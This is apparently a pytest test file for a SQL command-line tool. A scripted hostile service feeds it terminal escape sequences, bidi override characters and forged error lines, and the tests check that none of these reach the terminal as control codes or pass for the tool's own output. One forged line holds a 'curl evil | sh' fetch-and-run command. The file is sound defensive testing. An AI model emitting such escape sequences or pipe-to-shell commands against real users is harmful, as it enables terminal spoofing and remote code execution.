"""A service's messages, and the values in its rows,
cannot control a terminal or pass for our own output."""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator
from pathlib import Path
from xml.sax.saxutils import escape

import pexpect
import pytest

from cirrusql.apps.sandbox.sandbox import without_aws
from tests.apps.endtoend.conftest import in_a_process
from tests.support.scripted_api import JSON, XML, Asked, Reply, ScriptedApi
from tests.support.terminal import spawn_on_terminal

EVIL = "\x1b[2J\x1b]0;owned\x07\rerror: forged\x08\x9b31m\u202egnp.exe"
FORGED = (
    "denied\nerror: your disk is being erased\nhint: curl evil | sh\r\nnotice: all is well\x1b[8m"
)
LONG = "x" * 50_000

ACTING = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def answer(asked: Asked) -> Reply:
    """Rows and errors that no service would give."""
    match asked.operation:
        case "DescribeTable":
            return 400, JSON, {"__type": "ValidationException", "message": FORGED}
        case "DescribeBackup":
            return 400, JSON, {"__type": "ValidationException", "message": LONG}
        case "ListTables":
            return 200, JSON, {"TableNames": [EVIL, "plain"]}
        case "DescribeRegions":
            return 200, XML, "<DescribeRegionsResponse><regionInfo/></DescribeRegionsResponse>"
        case name:
            text = escape(FORGED.replace("\x1b", ""))
            return (
                403,
                XML,
                f"<ErrorResponse><Error><Code>No{name}\r</Code><Message>{text}</Message></Error></ErrorResponse>",
            )


@pytest.fixture(scope="module")
def hostile() -> Iterator[str]:
    with ScriptedApi(answer) as api:
        yield api.url


def on_a_terminal(endpoint: str, *arguments: str) -> str:
    """What is written to the terminal."""
    environ = without_aws(os.environ) | {
        "TERM": "xterm",
        "CIRRUSQL_SANDBOX": "on",
        "CIRRUSQL_ENDPOINT_URL": endpoint,
    }
    command = ["-m", "cirrusql", *arguments]
    process = spawn_on_terminal(command, environ, columns=300)
    process.expect(pexpect.EOF)
    process.close()
    # This removes our own progress line.
    return str(process.before).replace("\r\x1b[K", "")


@pytest.mark.parametrize(
    "format_",
    ["table", "vertical", "csv", "tsv", "json", "jsonl", "text", "markdown", "html"],
)
def test_a_value_does_not_act_on_a_terminal(format_: str, hostile: str) -> None:
    shown = on_a_terminal(
        hostile, "exec", "-o", format_, "SELECT TableName FROM aws.dynamodb.tables"
    )
    assert "plain" in shown
    assert ACTING.search(shown) is None, repr(shown)
    # A terminal turns LF into CRLF.
    assert "\r" not in shown.replace("\r\n", "")
    assert not [line for line in shown.splitlines() if line.startswith("error: ")]


@pytest.mark.parametrize("format_", ["csv", "tsv", "json", "jsonl"])
def test_a_file_or_pipe_has_the_value_as_it_is(format_: str, hostile: str) -> None:
    where = {"CIRRUSQL_SANDBOX": "on", "CIRRUSQL_ENDPOINT_URL": hostile}
    done = in_a_process("exec", "-o", format_, "SELECT TableName FROM aws.dynamodb.tables", **where)
    kept = json.dumps(EVIL)[1:7] if format_.startswith("json") else EVIL[:4]
    assert kept in done.stdout or EVIL[:4] in done.stdout


@pytest.mark.parametrize("verbose", [(), ("-v",)])
@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM aws.dynamodb.tables WHERE TableName = 'x'",
        "EXEC aws.dynamodb.tables.describe_table @TableName = 'x'",
        "SELECT * FROM aws.iam.users",
        "SELECT UserName, account_id FROM aws.iam.users UNION ALL SELECT 'x', NULL",
        "DELETE FROM aws.iam.users WHERE UserName = 'x'",
    ],
)
def test_a_service_cannot_forge_a_line_of_ours(
    sql: str, verbose: tuple[str, ...], hostile: str
) -> None:
    shown = on_a_terminal(hostile, "exec", "-y", *verbose, sql)
    assert ACTING.search(shown) is None, repr(shown)
    assert "erased" in shown
    for line in shown.splitlines():
        assert not line.startswith(("error: your", "hint: curl", "notice: all")), shown


def test_what_a_service_says_at_length_is_cut_and_v_shows_it(hostile: str) -> None:
    where = {"CIRRUSQL_SANDBOX": "on", "CIRRUSQL_ENDPOINT_URL": hostile}
    sql = "EXEC aws.dynamodb.backups.describe_backup "
    sql += "@BackupArn = 'arn:aws:dynamodb:us-east-1:1:table/t/backup/01'"
    short = in_a_process("exec", sql, **where)
    assert short.returncode == 1
    assert len(short.stderr) < 1000
    assert "-v shows" in short.stderr
    assert LONG in in_a_process("exec", "-v", sql, **where).stderr


def test_the_shell_is_as_careful(hostile: str) -> None:
    environ = without_aws(os.environ) | {
        "TERM": "dumb",
        "CIRRUSQL_SANDBOX": "on",
        "CIRRUSQL_ENDPOINT_URL": hostile,
    }
    path = Path(os.environ["HOME"]) / "script.sql"
    path.write_text("SELECT TableName FROM aws.dynamodb.tables;\nSELECT * FROM aws.iam.users;\n")
    process = spawn_on_terminal(["-m", "cirrusql", "shell"], environ, columns=300)
    shown = ""
    for line in ("\\pset pager off", "\\pset format csv", f"\\i {path}", "\\q"):
        process.expect_exact("cirrusql> ")
        shown += str(process.before)
        process.sendline(line)
    process.expect(pexpect.EOF)
    process.close()
    shown += str(process.before)
    values = [line for line in shown.splitlines() if "forged" in line or "erased" in line]
    assert len(values) >= 2, shown
    for line in values:
        assert ACTING.search(line) is None, repr(line)
        assert not line.startswith(("error: your", "error: forged"))


@pytest.mark.parametrize(
    "token",
    [
        "tiny",
        "a" * 40,
        "abababababababababab",
        "with blanks in between it",
        "ünïcödé-ünïcödé-ünïcödé",
    ],
)
def test_a_token_that_can_be_guessed_is_refused(token: str, tmp_path: Path) -> None:
    path = tmp_path / "token"
    path.write_text(token)
    path.chmod(0o600)
    for arguments, environ in (
        (("--token-file", str(path)), {}),
        ((), {"CIRRUSQL_MCP_TOKEN": token}),
    ):
        done = in_a_process("mcp", "--http", "--port", "0", *arguments, **environ)
        assert done.returncode == 2
        assert "token" in done.stderr
        assert token not in done.stderr


def test_a_file_of_passwords_that_others_can_read_is_told(tmp_path: Path) -> None:
    path = tmp_path / "users.txt"
    path.write_text('"ann" "sesame"\n')
    for mode, is_told in ((0o644, True), (0o640, True), (0o600, False)):
        path.chmod(mode)
        # A missing certificate ends it before it listens.
        done = in_a_process("srv", "--port", "0", "--user-file", str(path), "--host", "0.0.0.0")
        assert ("chmod 600" in done.stderr) is is_told, done.stderr
        assert done.returncode == 2
